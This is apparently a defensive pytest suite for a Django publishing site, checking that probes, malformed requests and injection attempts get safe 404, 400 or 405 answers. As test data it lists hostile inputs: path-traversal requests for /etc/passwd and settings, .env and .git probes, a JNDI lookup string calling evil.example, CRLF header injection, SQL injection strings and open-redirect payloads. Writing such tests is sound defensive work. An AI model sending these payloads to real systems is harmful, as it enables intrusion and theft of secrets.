"""Paths, methods, headers and queries that no browser sends by itself: an expected answer, never an error of ours."""

from urllib.parse import unquote_to_bytes

import pytest
from django.test import Client

from publishing.models import Redirect
from publishing.tests.factories import make_article, make_user

pytestmark = pytest.mark.django_db

PROBES = [
    "/.env",
    "/.git/HEAD",
    "/.git/config",
    "/wp-login.php",
    "/wp-admin/",
    "/xmlrpc.php",
    "/server-status",
    "/phpinfo.php",
    "/admin.php",
    "/administrator/",
    "/Admin/",
    "/static/../publishing/settings.py",
    "/static/..%2f..%2fpublishing/settings.py",
    "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static//etc/passwd",
    "/media/..%2fpublishing.sqlite3",
    "/var/secret-key",
    "/account/x.css",
    "/account;x.css",
    "/account%0ax.css",
    "/account%23.css",
    "/static/..%2faccount",
    "/%00",
    "/articles/%00/",
    "/%ff",
    "/%c0%ae%c0%ae/",
    "/%c0%af",
    "/%ed%a0%80",
    "/articles/%e2%80%ae/",
    "/%0d%0aSet-Cookie:%20a=b",
    "/{{7*7}}/",
    "/$%7Bjndi:ldap://evil.example%7D/",
    "/" + "x" * 8000,
    "/a" * 10_000,
    "/preview/%00/",
    "/preview/" + "x" * 5000 + "/",
    "/comments/receipts/%ff/",
    "/comments/99999999999999999999999999/",
    "/comments/-1/",
    "/comments/٣/",
    "/archive/0/1/",
    "/archive/10000/1/",
    "/archive/2026/0/",
    "/archive/99999999999999999999/99999999999999999999/",
    "/quizzes/results/%00/",
    "/quizzes/results/" + "x" * 5000 + "/",
    "/media/" + "0" * 32 + ".php",
]


def ask(client, path, method="GET", **headers):
    """Ask for exactly this path; the test client would read two slashes as the start of a host."""
    path, _, query = path.partition("?")
    path = unquote_to_bytes(path).decode("latin-1")
    return client.generic(method, "/", headers=headers, PATH_INFO=path, QUERY_STRING=query)


@pytest.mark.parametrize("path", PROBES, ids=lambda path: path[:60])
def test_what_is_not_there_is_404(client, path):
    response = ask(client, path)

    assert response.status_code == 404
    assert not response.cookies
    is_personal = path.startswith(("/preview/", "/comments/receipts/", "/quizzes/results/x"))
    assert response.headers["Cache-Control"] == (
        "private, no-store" if is_personal else "public, max-age=0, s-maxage=10"
    )
    assert b"Page not found" in response.content


def test_what_is_not_there_asks_no_database_once_everything_is_known(client, count_queries):
    client.get("/no/such/page/")
    client.get("/nothing/")

    for path in (
        "/no/such/page/",
        "/nothing",
        "/something/",
        "/.env",
        "/wp-login.php",
        "/" + "x" * 8000,
        "/a" * 10_000,
        "/%00",
        "/account/x.css",
    ):
        with count_queries() as queries:
            assert ask(client, path).status_code == 404
        assert queries == [], path


def test_nothing_below_an_article_is_the_article(client):
    path = make_article(slug="first", title="The first one").get_absolute_url()

    for below in ("anything.js", "x.css", "style.css/", "index.html", "..;/x.css", "%2e%2e/x.js", "heart/x.css"):
        response = client.get(path + below)
        assert response.status_code == 404, below
        assert b"The first one" not in response.content


@pytest.mark.parametrize(
    "path",
    [
        "//evil.example",
        "//evil.example/",
        "//evil.example/..",
        "//evil.example/%2e%2e",
        "//evil.example/articles/",
        "///evil.example/",
        "/\\evil.example",
        "/\\evil.example/",
        "/%5cevil.example",
        "/%2f%2fevil.example",
        "/%2f%2fevil.example/",
        "/%09/evil.example",
        "/%0a/evil.example",
        "//archive",
        "/.//evil.example",
        "/@evil.example",
        "/articles//evil.example",
    ],
)
def test_no_redirect_leads_off_the_site(client, path):
    for response in (ask(client, path), ask(client, path + "?next=//evil.example"), ask(client, path, "HEAD")):
        assert response.status_code in (301, 404)
        location = response.headers.get("Location", "/")
        assert location.startswith("/") and not location.startswith(("//", "/\\")), location


def test_an_old_address_with_too_many_slashes_leads_no_further_than_its_redirect(client):
    Redirect.objects.create(old_path="/evil.example", new_path="/archive/")
    client.get("/")

    for path in ("//evil.example/", "/evil.example//", "//evil.example"):
        assert ask(client, path).headers["Location"] == "/archive/"


def test_the_way_to_the_sign_in_stays_on_the_site(client):
    for path in ("/admin/../articles/", "/admin//evil.example/", "/admin/\\evil.example", "/admin/%0d%0aX:%20y"):
        response = ask(client, path)
        assert response.status_code in (302, 404)
        location = response.headers.get("Location", "/admin/login/?next=/admin/")
        assert location.startswith("/admin/login/?next=/admin/")
        assert not {"\r", "\n"} & set(location)


def test_a_missing_slash_is_added_within_the_site(client):
    response = client.get("/archive?page=1", headers={"x-forwarded-host": "evil.example"})

    assert response.status_code == 301
    assert response.headers["Location"] == "/archive/?page=1"


@pytest.mark.parametrize(
    "host",
    ["evil.example", "testserver.evil.example", "evil.example:80", "testserver:port", "testserver@evil.example",
     "testserver, evil.example", "testserver evil", "[::1", "", " ", "test_server/", "testserver\\"],
)  # fmt: skip
def test_another_host_is_refused_with_words(host):
    response = Client().get("/", headers={"host": host} if host.strip() else {}, SERVER_NAME=host or "evil.example")

    assert response.status_code == 400
    assert b"Bad request" in response.content
    assert b"evil" not in response.content


def test_a_port_that_nobody_listens_on_changes_nothing(client):
    assert client.get("/", headers={"host": "testserver:99999"}).content == client.get("/").content


@pytest.mark.parametrize("method", ["PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "GETS", "X" * 100])
def test_a_method_that_a_page_does_not_take_is_405(client, method):
    response = client.generic(method, "/")

    assert response.status_code == 405
    assert response.headers["Allow"] == "GET, HEAD"


@pytest.mark.parametrize("method", ["PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "POST"])
def test_a_real_browser_gets_no_further_with_them(method):
    response = Client(enforce_csrf_checks=True).generic(method, "/")

    assert response.status_code == 405


@pytest.mark.parametrize(
    "cookie",
    [
        "a=" + "x" * 20_000,
        "; ".join(f"c{number}=1" for number in range(200)),
        "=",
        ";;;=;a;b=;=c",
        "sessionid=a; sessionid=b",
        'a="unclosed',
        "reader=" + "x" * 10_000,
        "sessionid=../../etc/passwd",
        "sessionid=%00",
        "csrftoken=" + "x" * 500,
        "a=\x01\x02",
        "a=é",
    ],
    ids=lambda cookie: cookie[:30],
)
def test_odd_cookies_are_ignored(client, cookie):
    article = make_article()
    same_origin = {"sec-fetch-site": "same-origin", "cookie": cookie}

    assert client.get("/", headers={"cookie": cookie}).status_code == 200
    assert client.get("/admin/login/", headers={"cookie": cookie}).status_code == 200
    assert client.get("/admin/", headers={"cookie": cookie}).status_code == 302
    assert client.post(f"{article.get_absolute_url()}heart/", headers=same_origin).status_code == 200
    assert client.post(f"{article.get_absolute_url()}view/", headers=same_origin).status_code == 204


@pytest.mark.parametrize(
    "headers",
    [
        {"accept-language": "x" * 10_000},
        {"accept-language": ",".join(["de"] * 1000)},
        {"accept": ",".join(["text/x;q=0.1"] * 1000)},
        {"accept": "nonsense"},
        {"accept-encoding": ",".join(["gzip;q=0.5"] * 1000)},
        {"accept-encoding": "gzip;q=nonsense"},
        {"range": "bytes=" + ",".join(["0-0"] * 1000)},
        {"if-none-match": "nonsense"},
        {"if-modified-since": "yesterday"},
        {"if-match": "*"},
        {"if-unmodified-since": "Thu, 01 Jan 1970 00:00:00 GMT"},
        {"authorization": "Basic !!!"},
        {"x-requested-with": "XMLHttpRequest"},
        {"x-http-method-override": "DELETE"},
        {"x-original-url": "/admin/"},
        {"x-forwarded-for": "evil, " * 500},
        {"x-forwarded-proto": "https"},
        {"user-agent": "\x00\xff"},
        {"referer": "javascript:alert(1)"},
        {"content-type": "multipart/form-data"},
        {"content-length": "nonsense"},
        {"transfer-encoding": "xchunked"},
        {"expect": "100-continue"},
    ],
    ids=lambda headers: next(iter(headers)),
)
def test_odd_headers_change_nothing(client, headers):
    plain = client.get("/")
    response = client.get("/", headers=headers)

    assert response.status_code == 200
    if "accept-encoding" not in headers:
        assert response.content == plain.content


@pytest.mark.parametrize(
    ("query", "status"),
    [
        ("&".join(f"a{number}=1" for number in range(10_000)), 400),
        ("&".join(f"a{number}=1" for number in range(900)), 200),
        ("page=1&page=1", 200),
        ("page=2&page=1", 200),
        ("page[]=2", 200),
        ("page=1;page=2", 404),
        ("page=0", 404),
        ("page=-1", 404),
        ("page=1e9", 404),
        ("page=1.5", 404),
        ("page=999999999999999999999999", 404),
        ("page=NULL", 404),
        ("page=٣", 404),
        ("page=%00", 404),
        ("page=%ff", 404),
        ("page=" + "1" * 5000, 404),
        ("%00=%00", 200),
        ("=", 200),
        ("sort=password&order_by=author__password&filter=_connector", 200),
        ("is_superuser__exact=1", 200),
    ],
    ids=lambda value: str(value)[:40],
)
def test_odd_queries_have_an_expected_answer(client, query, status):
    assert client.get(f"/?{query}").status_code == status


@pytest.mark.parametrize(
    "words",
    ["' OR 1=1--", "%", "_", "\\", '"', '""', 'NEAR("a" "b")', '"*', "a AND", "NOT", "*", "a*", "(((", "(a+)+$",
     "col:a", "-a", "^a", "a\x00b", "\ud7ff", "\uffff", "x" * 10_000, "a " * 5000, "';DROP TABLE x;--", "{}", "日本"],
    ids=lambda words: words[:20],
)  # fmt: skip
def test_a_search_takes_words_as_words(client, words):
    make_article()

    assert client.get("/search/", {"q": words}).status_code == 200


def test_a_search_for_something_else_than_text_is_no_error(client):
    for query in ("q=%ff", "q=%00", "q[]=a", "q=a&q=b", "q", "q=a&page=x"):
        assert client.get(f"/search/?{query}").status_code in (200, 404), query


def test_the_desk_filters_only_by_what_it_offers(client):
    client.force_login(make_user("owner"))

    for query in ("authors__user__password__startswith=a", "category__articles__authors__user__email__contains=a"):
        assert client.get(f"/admin/articles/article/?{query}").status_code == 400, query
    for query in ("nonsense=1", "status__exact=x"):
        assert client.get(f"/admin/articles/article/?{query}").status_code == 400, query
    for query in ("o=99999.x", "p=-1", "p=1e9", "e=1"):
        assert client.get(f"/admin/articles/article/?{query}").status_code in (200, 302), query


def test_a_body_where_none_belongs_is_ignored(client):
    plain = client.get("/")
    fat = client.generic("GET", "/", b"page=2&_method=POST", content_type="application/x-www-form-urlencoded")

    assert (fat.status_code, fat.content) == (200, plain.content)


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b"--x\r\nnonsense", "multipart/form-data"),
        (b"--x\r\nnonsense", "multipart/form-data; boundary=x"),
        (b"\xff\xfe", "application/x-www-form-urlencoded"),
        (b"a=%ff&b=%00", "application/x-www-form-urlencoded; charset=nonsense"),
        (b"<a/>", "text/xml"),
        (b'{"a": 1}', "application/json"),
        (b"&".join(b"a=1" for _ in range(2000)), "application/x-www-form-urlencoded"),
        (b"name=" + b"x" * 3_000_000, "application/x-www-form-urlencoded"),
        (b"", ""),
    ],
    ids=lambda value: str(value)[:40],
)
def test_a_body_that_cannot_be_read_is_refused_and_no_error(client, body, content_type):
    path = make_article().get_absolute_url()
    for form in ("comments/", "heart/", "view/"):
        response = client.generic(
            "POST", path + form, body, content_type=content_type, headers={"sec-fetch-site": "same-origin"}
        )
        assert response.status_code in (200, 204, 400, 413, 422), form
